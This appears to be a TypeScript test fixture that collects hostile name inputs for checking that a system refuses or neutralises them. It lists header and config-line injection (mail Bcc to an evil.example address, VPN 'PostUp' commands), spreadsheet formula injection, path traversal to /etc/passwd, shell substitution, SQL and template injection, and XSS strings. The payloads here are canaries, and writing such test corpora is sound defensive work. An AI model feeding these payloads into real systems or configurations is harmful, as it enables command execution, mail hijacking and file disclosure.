// What is typed where a name is asked for, by who wants it to be more than a name: the one corpus of the tests that send such.
// Invariant: none of these may name a device or a node, so each is refused there; elsewhere it is refused or stays text.

/** Each would end a line and begin another one of a configuration, a log, a mail or an answer. */
const LINES = [
  '\n',
  '\r\n',
  'a\nb',
  'a\r\nPostUp = id',
  'a\nPostUp = touch /tmp/owned',
  'x\npush "route 0.0.0.0"',
  'x\nscript-security 2\nup /tmp/owned',
  'a\r\nSet-Cookie: owned=1',
  'x\r\nBcc: canary@evil.example\r\nX-Canary: 1',
  'x\r\n\r\n<b>body</b>',
  'x\rBcc: canary@evil.example',
  'x\u2028Bcc: canary@evil.example',
  'x\u0085Bcc: canary@evil.example',
  'a%0d%0aBcc: canary@evil.example',
  'x\n{"level":60,"event":"canary"}',
  'x\n# TYPE canary counter\ncanary 1',
  'x"} 1\ncanary{a="b',
  '=?utf-8?q?x=0D=0ABcc:_canary@evil.example?=',
]

/** Each would be more than its cell of a table, or be computed there. */
const CELLS = [
  '=cmd|calc!A1',
  '=HYPERLINK("https://evil.example","me")',
  '+1+cmd|calc!A1',
  '-1+cmd|calc!A1',
  '@SUM(A1)',
  '\t=1+1',
  'x","canary","y',
  'x"\r\n"canary","y',
]

/** Each would be another file, an option or a command. */
const COMMANDS = [
  '../x',
  '..',
  '../../../../etc/passwd',
  '..\\..\\windows',
  '/etc/passwd',
  'C:\\x',
  'file:///etc/passwd',
  '~root',
  'CON',
  'nul',
  '-h',
  '-rf',
  '--config',
  '--config=/etc/passwd',
  'a;b',
  'a; filename="x.exe"',
  'a|b',
  'a&b',
  '$(id)',
  '`id`',
  '${7*7}',
  '{{7*7}}',
  '%00',
  'a%00b',
  '%s%n',
  '*)(uid=*',
  "'; drop table devices; --",
  "' or '1'='1",
]

/** Each looks like something else, or like nothing. */
const LETTERS = [
  '',
  ' ',
  '\t',
  '\0',
  'a\0b',
  'a\x1b[2Jb',
  'a\x7fb',
  'a"b',
  "a'b",
  'a\\b',
  'a,b',
  'a:b',
  'a@b',
  '<b>x</b>',
  '"><img src=x onerror=alert(1)>',
  'ünïcode',
  '名前',
  'а', // Cyrillic
  '😀',
  '\u202etxt.exe',
  '\u2066x\u2069',
  '\ufeff',
  '\ud800',
  '\udfff\ud800',
  'Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A',
  'x'.repeat(41),
  'x'.repeat(300),
  'x'.repeat(10_000),
]

export const HOSTILE_NAMES: readonly string[] = [...LINES, ...CELLS, ...COMMANDS, ...LETTERS]

/** Each would leave the table `canary_<at>`, the file `<folder>/<at>` or the header `X-Canary` behind. */
export function leavingCommands(folder: string, at: number): string[] {
  return [
    `'; create table canary_${at} (); --`,
    `') ; create table canary_${at} (); select ('`,
    `$(touch ${folder}/${at}) \`touch ${folder}/${at}\``,
    `"; touch ${folder}/${at}; "`,
    `x\r\nBcc: canary@evil.example\r\nX-Canary: ${at}`,
    `\${process.mainModule.require('fs').writeFileSync('${folder}/${at}','')}`,
    `../../../../../..${folder}/${at}`,
  ]
}
